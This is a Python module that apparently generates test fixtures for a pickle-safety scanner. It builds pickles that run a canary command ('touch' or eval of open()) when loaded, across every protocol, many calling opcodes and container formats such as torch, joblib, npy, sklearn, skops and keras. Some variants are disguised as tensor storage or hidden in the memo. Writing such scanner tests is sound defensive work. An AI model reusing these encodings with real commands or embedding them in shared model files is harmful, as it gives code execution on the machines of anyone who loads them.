"""Pickles that would run a command when they are loaded: every protocol, every opcode that calls, every container.

Nothing here loads one. `PAYLOADS` are bare pickles; `CONTAINERS` put one into each file format that carries pickles.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import pickle
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

sys.path.append(str(Path(__file__).parents[1] / "coordinator"))

from lz4_writer import lz4

_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


class Touch:
    """Creates the canary when it is unpickled."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch {self.canary}",)


def _call(canary: Path) -> bytes:
    return f"open({str(canary)!r}, 'w')".encode()


def _text(value: bytes) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value


def _global(module: bytes, name: bytes) -> bytes:
    return b"c" + module + b"\n" + name + b"\n"


def payloads(canary: Path) -> Mapping[str, bytes]:
    """By protocol, and by the opcode that makes the call."""
    found = {f"protocol{protocol}": pickle.dumps(Touch(canary), protocol=protocol) for protocol in range(6)}
    code = _call(canary)
    found["inst"] = b"(S" + repr(code.decode()).encode() + b"\nibuiltins\neval\n."
    found["obj"] = b"(" + _global(b"builtins", b"eval") + _text(code) + b"o."
    found["newobj_ex"] = b"\x80\x04" + _global(b"os", b"system") + b"(" + _text(b"touch x") + b"t}\x92."
    found["stack_global"] = b"\x80\x04" + _text(b"builtins") + _text(b"eval") + b"\x93" + _text(code) + b"\x85R."
    found["dotted_name"] = b"\x80\x04" + _text(b"os") + _text(b"path.os.system") + b"\x93" + _text(b"true") + b"\x85R."
    found["build"] = b"\x80\x02" + _global(b"collections", b"OrderedDict") + b")R}" + _text(b"x") + b"K\x01sb."
    found["getattr"] = (
        b"\x80\x02" + _global(b"builtins", b"getattr") + _global(b"builtins", b"__import__") + _text(b"__call__")
        + b"\x86R" + _text(b"os") + b"\x85R."
    )  # fmt: skip
    found["extension"] = b"\x80\x02\x82\x01."
    found["persistent_id"] = b"Pos.system\n."
    found["disguised_storage"] = (
        b"\x80\x02" + _global(b"torch._utils", b"_rebuild_tensor_v2") + b"(" + found["protocol2"][2:-1] + b"K\0))tR."
    )
    found["in_memo"] = b"\x80\x02]q\x01" + found["protocol2"][2:-1] + b"q\x020h\x02."
    return found


def _zip(**entries: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return buffer.getvalue()


def _legacy(payload: bytes) -> bytes:
    head = [pickle.dumps(value, protocol=2) for value in (_LEGACY_MAGIC, 1001, {"little_endian": True})]
    return b"".join(head) + payload + pickle.dumps([], protocol=2)


def _array(payload: bytes) -> bytes:
    """An npy file of objects: a header, then a pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (64 - (len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def _estimator(payload: bytes) -> bytes:
    """A scikit-learn model, one of whose attributes is the payload."""
    body = payload[2:-1] if payload[:1] == b"\x80" else payload[:-1]
    return (
        b"\x80\x04"
        + _global(b"sklearn.linear_model._base", b"LinearRegression")
        + b")\x81}"
        + _text(b"coef_")
        + (body + b"sb.")
    )


CONTAINERS: Mapping[str, Callable[[bytes], bytes]] = {
    "bare": lambda payload: payload,
    "torch_zip": lambda payload: _zip(a__data_dot_pkl=payload, a__version=b"3"),
    "torch_legacy": _legacy,
    "torchscript": lambda payload: _zip(
        a__data_dot_pkl=payload, a__constants_dot_pkl=payload, a__code____torch___dot_py=b"pass", a__version=b"3"
    ),
    "pt2": lambda payload: _zip(
        m__archive_format=b"pt2", m__models__model_dot_json=b"{}", m__data__weights__w_dot_pt=payload
    ),
    "sklearn": _estimator,
    "joblib_zlib": zlib.compress,
    "joblib_gzip": gzip.compress,
    "joblib_bz2": bz2.compress,
    "joblib_xz": lzma.compress,
    "joblib_lzma": lambda payload: lzma.compress(payload, lzma.FORMAT_ALONE),
    "joblib_lz4": lz4,
    "npy": _array,
    "npz": lambda payload: _zip(x_dot_npy=_array(payload)),
    "skops": lambda payload: _zip(
        schema_dot_json=b'{"__class__": "system", "__module__": "os", "__loader__": "ObjectNode"}', x_dot_pkl=payload
    ),
    "keras": lambda payload: _zip(
        config_dot_json=b'{"class_name": "Lambda", "config": {"function": "eval"}}', model_dot_weights_dot_h5=payload
    ),
}


def write(folder: Path, canary: Path) -> None:
    """Every protocol in every container, every opcode bare and in torch's zip."""
    made = payloads(canary)
    for container, wrap in CONTAINERS.items():
        for name, payload in made.items():
            if name.startswith("protocol") or container in ("bare", "torch_zip"):
                (folder / f"pickle-{container}-{name}").write_bytes(wrap(payload))
